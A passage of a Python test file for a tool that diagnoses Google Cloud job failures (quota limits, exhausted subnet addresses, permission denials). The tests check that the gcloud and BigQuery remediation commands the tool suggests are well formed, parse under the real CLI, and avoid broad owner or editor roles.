        "Quota 'GPUS_PER_GPU_FAMILY' exceeded. Limit: 0.0 in region us-central1. gpu_family: NVIDIA_H100",
        None,
    ),
    "quota_unnamed": ("Node scale up in zones us-central1-c associated with this pod failed: GCE quota exceeded.", JOB),
    "ip_space_exhausted": (IP_SPACE, JOB),
    "unknown": ("all good here", JOB),
    "generic_403": ("HttpError 403 when requesting https://example.googleapis.com returned Forbidden", None),
    "names_nothing": ("Error 403: The caller does not have permission, forbidden", JOB),  # the audit-log look
    "input_pipeline": ("Your input pipeline is the bottleneck: the GPU is idle waiting for data", JOB),
    **{f"denial_{name}": (text, JOB) for name, (text, _, _) in DENIALS.items()},
    # without the job, placeholders stand in for its project and account: one denial of each kind of resource
    **{
        f"denial_{name}_no_job": (DENIALS[name][0], None)
        for name in ("gcs_bare_bucket_name", "bigquery_table_get", "secret_manager", "cloud_kms", "act_as")
    },
}
BQ_GRANT = re.compile(r"^bq add-iam-policy-binding -[dt] --member=serviceAccount:\S+ --role=roles/\S+ \S+:\S+$")


def _scenario_commands(classifier: Classifier) -> list[str]:
    commands: list[str] = []
    for text, job in SCENARIOS.values():
        commands += commands_of(diagnose(classifier, text, job))
    commands += commands_of(classifier.classify(OOM_CASCADE, JOB))
    return commands


@pytest.mark.skipif(not gcloud_available(), reason="the gcloud CLI is not installed")
def test_every_gcloud_command_passes_the_real_gcloud_parser(classifier, tmp_path: Path) -> None:
    commands: list[str] = []
    for command in _scenario_commands(classifier):
        if command.startswith("gcloud "):
            commands.append(command)
        else:
            assert BQ_GRANT.match(command), command
    prepared = sorted({with_sample_values(command) for command in commands})
    assert len(prepared) >= 60
    failures = [r for r in check_commands(prepared, tmp_path / "gcloud") if not r.parsed]
    assert not failures, "\n\n".join(f"{r.command}\n -> rc={r.returncode} {r.stderr[:300]}" for r in failures)


def test_no_placeholder_gcloud_would_refuse_and_no_retired_command(classifier) -> None:
    text = "\n".join(_scenario_commands(classifier))
    assert "ALTERNATIVE_REGION" not in text  # gcloud rejects it as a region
    assert "alpha services quota" not in text  # the Cloud Quotas commands replace it


def test_every_member_and_role_is_well_formed(classifier) -> None:
    for command in _scenario_commands(classifier):
        for member in re.findall(r"--member=(\S+)", command):
            assert re.match(
                # an unknown account is an explicit placeholder (the service agent's address needs the number)
                r"^(serviceAccount|user|group):[^@\s]+@[^@\s]+$|^user:SUBMITTER_EMAIL$|^serviceAccount:SERVICE_ACCOUNT_EMAIL$",
                member,
            ), command
        for role in re.findall(r"--role=(\S+)", command):
            assert re.match(r"^roles/[a-zA-Z]+\.[a-zA-Z]+$", role) or role == "ROLE", command
            assert role not in ("roles/owner", "roles/editor", "roles/viewer"), command


def test_a_subnet_out_of_addresses_is_no_quota_and_names_the_subnet(classifier) -> None:
    diagnosis = diagnose(classifier, IP_SPACE)
    assert diagnosis.failure_class == "quota_exhausted"
    assert "IP address" in diagnosis.title  # the address-range variant, not a quota limit
    found = commands_of(diagnosis)
    assert "gcloud compute networks subnets describe gke-nodes --region=europe-west4 --project=acme-ml" in found
    assert not any("preferences create" in c for c in found)  # no quota increase adds addresses
